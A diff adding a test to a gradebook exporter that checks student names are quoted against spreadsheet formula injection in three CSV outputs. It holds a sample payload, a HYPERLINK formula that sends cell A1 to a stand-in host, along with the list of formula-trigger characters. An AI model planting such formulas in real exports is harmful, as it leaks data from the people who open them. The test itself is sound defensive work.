@@ -177,3 +177,20 @@ def test_the_copy_with_the_answers_is_graded(tmp_path):
     os.utime(worked, (1, 1))  # older, and not named as the course notebook: its answers still win
     kept, dropped = gradebook.pick_copies([("yara", blank, "00_start_here"), ("yara", worked, "00_start_here")])
     assert kept == [("yara", worked, "00_start_here")] and dropped == [("yara", blank, "00_start_here", worked)]
+
+
+def test_names_a_spreadsheet_would_run_are_quoted(tmp_path):
+    """A student's review: names come from files and folders, and a folder named =HYPERLINK(...) became
+    a formula when the teacher opened the gradebook. Such a cell starts with an apostrophe."""
+    evil = '=HYPERLINK("http://x/"&A1,"click")'
+    grades = _rows(evil, "00_start_here", ["correct", "wrong"]) + _rows("-2+3", "00_start_here", ["wrong", "wrong"])
+    columns, rows = gradebook.build(grades)
+    gradebook.write_wide_csv(columns, rows, tmp_path / "gradebook.csv")
+    gradebook.write_canvas_csv(rows, tmp_path / "canvas.csv", assignment="@W1")
+    grade.write_csv(grades, tmp_path / "grades.csv")
+    for name in ("gradebook.csv", "canvas.csv", "grades.csv"):
+        with open(tmp_path / name, newline="", encoding="utf-8") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        assert "'" + evil in cells and "'-2+3" in cells, name
+        assert not any(cell.startswith(("=", "+", "@")) or (cell.startswith("-") and not cell.lstrip("-").isdigit())
+                       for cell in cells), name
